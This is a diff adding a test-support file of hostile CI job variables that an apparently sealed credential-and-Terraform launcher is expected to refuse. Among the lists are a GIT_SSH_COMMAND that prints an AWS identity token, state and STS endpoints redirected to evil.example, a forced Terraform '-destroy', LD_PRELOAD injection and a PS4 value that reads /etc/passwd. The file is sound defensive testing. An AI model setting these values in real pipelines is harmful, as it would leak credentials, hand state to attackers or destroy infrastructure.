@@ -1,0 +1,88 @@
+/**
+ * TEST SUPPORT: hostile job variables for the sealed launcher's tests (unit, e2e and slow sweep).
+ */
+
+/** The hostile variables of issue 18 and more of the same kinds: each must be refused by name. */
+export const STEERING: [string, string][] = [
+  ["GIT_CONFIG_COUNT", "1"],
+  ["GIT_CONFIG_KEY_0", "alias.sts"],
+  ["GIT_CONFIG_PARAMETERS", "'url.https://evil.example/.insteadof'='https://gitlab.example.com/'"],
+  ["GIT_SSH_COMMAND", "sh -c 'cat $AWS_ID_TOKEN'"],
+  ["GIT_ASKPASS", "/tmp/steal"],
+  ["HTTPS_PROXY", "http://127.0.0.1:9"],
+  ["https_proxy", "http://127.0.0.1:9"],
+  ["ALL_PROXY", "socks5://127.0.0.1:9"],
+  ["NO_PROXY", "*"],
+  ["AWS_CA_BUNDLE", "/tmp/evil-ca.pem"],
+  ["SSL_CERT_FILE", "/tmp/evil-ca.pem"],
+  ["SSL_CERT_DIR", "/tmp"],
+  ["TF_CLI_ARGS_plan", "-destroy"],
+  ["TF_CLI_ARGS_init", "-backend-config=address=https://evil.example/state"],
+  ["TF_CLI_ARGS", "-target=aws_iam_role.x"],
+  ["TF_REATTACH_PROVIDERS", '{"registry.terraform.io/hashicorp/aws":{}}'],
+  ["TF_LOG", "TRACE"],
+  ["TF_LOG_PATH", "/tmp/log"],
+  ["TERRAFORM_CONFIG", "/tmp/terraformrc"],
+  ["TF_CLI_CONFIG_FILE", "/tmp/terraformrc"],
+  ["TF_VAR_x", "1"],
+  ["TF_HTTP_ADDRESS", "https://evil.example/state"],
+  ["TF_HTTP_PASSWORD", "something-else"],
+  ["AWS_CONFIG_FILE", "/tmp/config"],
+  ["AWS_SHARED_CREDENTIALS_FILE", "/tmp/credentials"],
+  ["AWS_PROFILE", "other"],
+  ["AWS_ENDPOINT_URL_STS", "https://evil.example"],
+  ["AWS_ACCESS_KEY_ID", "AKIAEXAMPLE"],
+  ["NODE_OPTIONS", "--require /tmp/x.js"],
+  ["LD_PRELOAD", "/tmp/x.so"],
+  ["BASH_ENV", "/tmp/x.sh"],
+  ["ENV", "/tmp/x.sh"],
+  ["SSLKEYLOGFILE", "/tmp/keys"],
+];
+
+/** The component's settings, overridden: refused unless equal to the committed manifest. */
+export const OVERRIDES: [string, string][] = [
+  ["AWS_CREDENTIALS_AWS_CLI", "git"],
+  [
+    "AWS_CREDENTIALS_PROFILES",
+    '[{"name":"gitlab-oidc-deployer","role_arn":"arn:aws:iam::999999999999:role/x","region":"eu-west-1"}]',
+  ],
+  ["AWS_CREDENTIALS_STS_ENDPOINT", "https://evil.example"],
+  ["AWS_CREDENTIALS_TOKEN_DIR", "/tmp/shared"],
+  ["AWS_CREDENTIALS_REGION", "us-west-2"],
+];
+
+/** More of the same kinds, for the slow sweep: the sweep checks each is refused alone. */
+export const MORE_STEERING: [string, string][] = [
+  ["GIT_EXEC_PATH", "/tmp"],
+  ["GIT_DIR", "/tmp/other.git"],
+  ["GIT_SSL_NO_VERIFY", "true"],
+  ["GIT_SSL_CAINFO", "/tmp/ca.pem"],
+  ["GIT_PROXY_COMMAND", "/tmp/proxy"],
+  ["GIT_TRACE_CURL", "/tmp/trace"],
+  ["http_proxy", "http://127.0.0.1:9"],
+  ["FTP_PROXY", "http://127.0.0.1:9"],
+  ["CURL_CA_BUNDLE", "/tmp/ca.pem"],
+  ["REQUESTS_CA_BUNDLE", "/tmp/ca.pem"],
+  ["NODE_EXTRA_CA_CERTS", "/tmp/ca.pem"],
+  ["NODE_TLS_REJECT_UNAUTHORIZED", "0"],
+  ["OPENSSL_CONF", "/tmp/openssl.cnf"],
+  ["GODEBUG", "x509ignoreCN=1"],
+  ["TF_PLUGIN_CACHE_DIR", "/tmp/plugins"],
+  ["TF_DATA_DIR", "/tmp/data"],
+  ["TF_WORKSPACE", "other"],
+  ["TF_TOKEN_app_terraform_io", "x"],
+  ["TF_IN_AUTOMATION", "false"],
+  ["AWS_ROLE_ARN", "arn:aws:iam::999999999999:role/x"],
+  ["AWS_WEB_IDENTITY_TOKEN_FILE", "/tmp/token"],
+  ["AWS_ENDPOINT_URL", "https://evil.example"],
+  ["AWS_STS_REGIONAL_ENDPOINTS", "legacy"],
+  ["AWS_CONTAINER_CREDENTIALS_FULL_URI", "http://127.0.0.1:9"],
+  ["AWS_EC2_METADATA_SERVICE_ENDPOINT", "http://127.0.0.1:9"],
+  ["LD_LIBRARY_PATH", "/tmp"],
+  ["PYTHONPATH", "/tmp"],
+  ["PERL5OPT", "-d"],
+  ["SHELLOPTS", "xtrace"],
+  ["PS4", "$(cat /etc/passwd)"],
+  ["XDG_CONFIG_HOME", "/tmp"],
+  ["NETRC", "/tmp/netrc"],
+];
